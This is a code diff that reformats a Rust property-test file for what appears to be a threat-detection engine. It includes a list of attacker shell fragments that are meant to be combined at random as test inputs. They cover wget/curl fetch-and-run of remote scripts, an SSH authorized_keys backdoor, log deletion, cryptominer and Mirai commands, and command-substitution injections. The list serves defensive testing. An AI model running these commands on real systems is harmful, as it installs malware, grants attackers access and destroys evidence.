@@ -22,13 +22,16 @@ fn category() -> impl Strategy<Value = Category> {
 }
 
 fn community() -> impl Strategy<Value = CommunityEvidence> {
-    (0u64..500, 0u64..60, prop::collection::vec((category(), 0u64..50), 0..5)).prop_map(
-        |(reports, reporters, categories)| CommunityEvidence {
+    (
+        0u64..500,
+        0u64..60,
+        prop::collection::vec((category(), 0u64..50), 0..5),
+    )
+        .prop_map(|(reports, reporters, categories)| CommunityEvidence {
             reports,
             reporters,
             categories,
-        },
-    )
+        })
 }
 
 fn sensor() -> impl Strategy<Value = Evidence> {
@@ -183,11 +186,31 @@ fn engine() -> &'static Engine {
 
 /// Command fragments that hit many primitives, to be glued together at random.
 const FRAGMENTS: &[&str] = &[
-    "cd /tmp", "wget http://1.2.3.4/bins.sh", "chmod 777 x", "sh bins.sh", "uname -a",
-    "/bin/busybox MIRAI", "enable", "curl -s http://h/x.sh | sh", "crontab -", "echo ok",
-    "cat /proc/cpuinfo", "nvidia-smi", "xmrig --donate-level 1", "history -c", "chattr -ia .ssh",
-    "echo ssh-rsa AAAA mdrfckr >> .ssh/authorized_keys", "rm -rf /var/log", "tftp -g -r m 1.2.3.4",
-    "pkill -9 kdevtmpfsi", "ÜÖÄ", "`id`", "$(whoami)", "sh -c 'id; w'", "RM -RF X", "ls -la",
+    "cd /tmp",
+    "wget http://1.2.3.4/bins.sh",
+    "chmod 777 x",
+    "sh bins.sh",
+    "uname -a",
+    "/bin/busybox MIRAI",
+    "enable",
+    "curl -s http://h/x.sh | sh",
+    "crontab -",
+    "echo ok",
+    "cat /proc/cpuinfo",
+    "nvidia-smi",
+    "xmrig --donate-level 1",
+    "history -c",
+    "chattr -ia .ssh",
+    "echo ssh-rsa AAAA mdrfckr >> .ssh/authorized_keys",
+    "rm -rf /var/log",
+    "tftp -g -r m 1.2.3.4",
+    "pkill -9 kdevtmpfsi",
+    "ÜÖÄ",
+    "`id`",
+    "$(whoami)",
+    "sh -c 'id; w'",
+    "RM -RF X",
+    "ls -la",
 ];
 
 proptest! {
